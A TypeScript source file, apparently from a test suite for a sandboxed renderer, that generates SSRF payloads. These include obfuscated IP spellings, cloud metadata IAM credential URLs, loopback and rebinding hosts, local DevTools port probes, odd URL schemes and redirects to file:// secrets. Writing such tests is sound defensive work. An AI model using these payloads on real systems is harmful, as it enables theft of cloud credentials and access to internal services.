import { type Payload, script } from './payload.ts'

/** Sends requests to a host and port in several ways. */
const requests = (authority: string, path: string) =>
  `<img src="http://${authority}/${path}/a.svg"><iframe src="http://${authority}/${path}/a.html"></iframe>
  ${script(`fetch('http://${authority}/${path}/a.txt').then(show).catch(() => {})
  try { new WebSocket('ws://${authority}/${path}/a') } catch {}`)}`

type Spelling = (host: string) => string

const bytes = (host: string) => host.split('.').map(Number)
const number = (host: string) => bytes(host).reduce((sum, byte) => sum * 256 + byte, 0)
const hex = (host: string, start: number) =>
  bytes(host)
    .slice(start, start + 2)
    .map((byte) => byte.toString(16).padStart(2, '0'))
    .join('')

const spellings: Record<string, Spelling> = {
  decimal: (host) => String(number(host)),
  hexadecimal: (host) => `0x${number(host).toString(16)}`,
  octal: (host) =>
    bytes(host)
      .map((byte) => `0${byte.toString(8)}`)
      .join('.'),
  'octal-number': (host) => `0${number(host).toString(8)}`,
  'mixed-bases': (host) =>
    bytes(host)
      .map((byte, i) => (i % 2 ? `0x${byte.toString(16)}` : byte))
      .join('.'),
  'three-parts': (host) => {
    const [a, b, c = 0, d = 0] = bytes(host)
    return `${a}.${b}.${c * 256 + d}`
  },
  percent: (host) => host.replaceAll('.', '%2e'),
  'full-width': (host) =>
    host.replace(/\d/g, (digit) => String.fromCodePoint(0xff10 + Number(digit))).replaceAll('.', '。'),
  'trailing-dot': (host) => `${host}.`,
  'user-info': (host) => `example.com@${host}`,
  'user-info-and-password': (host) => `a:b@${host}`,
}

const mapped: Record<string, Spelling> = {
  mapped: (host) => `[::ffff:${host}]`,
  'mapped-hex': (host) => `[::ffff:${hex(host, 0)}:${hex(host, 2)}]`,
}

const translated: Record<string, Spelling> = {
  compatible: (host) => `[::${host}]`,
  nat64: (host) => `[64:ff9b::${hex(host, 0)}:${hex(host, 2)}]`,
  'nat64-local': (host) => `[64:ff9b:1::${hex(host, 0)}:${hex(host, 2)}]`,
  'six-to-four': (host) => `[2002:${hex(host, 0)}:${hex(host, 2)}::1]`,
}

const metadata = '169.254.169.254'

/** One host in every spelling that some parser accepts. */
export const addresses: Payload[] = [
  ...Object.entries({ ...spellings, ...mapped }).map(
    ([name, spell]): Payload => ({
      name: `address-${name}`,
      html: ({ host, port }) => requests(`${spell(host)}:${port}`, `address-${name}`),
    }),
  ),
  ...Object.entries({ plain: (host: string) => host, ...spellings, ...mapped, ...translated }).map(
    ([name, spell]): Payload => ({
      name: `metadata-${name}`,
      reaches: 'none',
      html: () => requests(spell(metadata), 'latest/meta-data/iam'),
    }),
  ),
  {
    name: 'metadata-other-clouds',
    reaches: 'none',
    html: () =>
      ['metadata.google.internal', '100.100.100.200', '168.63.129.16', '[fd00:ec2::254]', '192.0.0.192']
        .map((host) => requests(host, 'latest'))
        .join(''),
  },
  ...[
    'localhost',
    'LOCALHOST',
    'a.localhost',
    'localhost.',
    '0.0.0.0',
    '0',
    '127.1',
    '127.255.255.254',
    '[::1]',
    '[::]',
  ].map(
    (host): Payload => ({
      name: `loopback-${host.replace(/\W/g, '-')}`,
      reaches: 'none',
      html: ({ port }) => requests(`${host}:${port}`, 'loopback'),
    }),
  ),
  {
    name: 'rebinding-names',
    reaches: 'none',
    html: ({ host, port }) =>
      [`${host}.nip.test`, 'rebind.test', 'both.test', 'mapped.test', 'private.test']
        .map((name) => requests(`${name}:${port}`, 'name'))
        .join(''),
  },
  {
    name: 'own-ports',
    reaches: 'none',
    html: () =>
      script(`for (const port of [9222, 9229, 4222, 8222, 8080, 3000, 2113, 9000, 22, 25, 6379, 5432])
      for (const host of ['127.0.0.1', 'localhost']) { fetch('http://' + host + ':' + port + '/json/version').then(show).catch(() => {})
        try { new WebSocket('ws://' + host + ':' + port + '/devtools/browser') } catch {} }`),
  },
  ...['ftp', 'gopher', 'ws', 'wss', 'dict', 'ldap', 'smb', 'mailto', 'tel', 'intent', 'ssh'].map(
    (scheme): Payload => ({
      name: `scheme-${scheme}`,
      reaches: 'none',
      html: ({
        host,
        port,
      }) => `<img src="${scheme}://${host}:${port}/x"><iframe src="${scheme}://${host}:${port}/x"></iframe>
      ${script(`fetch('${scheme}://${host}:${port}/x').catch(() => {}); open('${scheme}://${host}:${port}/x')`)}`,
    }),
  ),
  {
    name: 'redirect-into',
    html: ({ http, files }) => `<img src="${http}/redirect?to=${encodeURIComponent(`file://${files}/secret.svg`)}">
      <iframe src="${http}/redirect?to=${encodeURIComponent(`http://${metadata}/latest`)}"></iframe>`,
  },
]
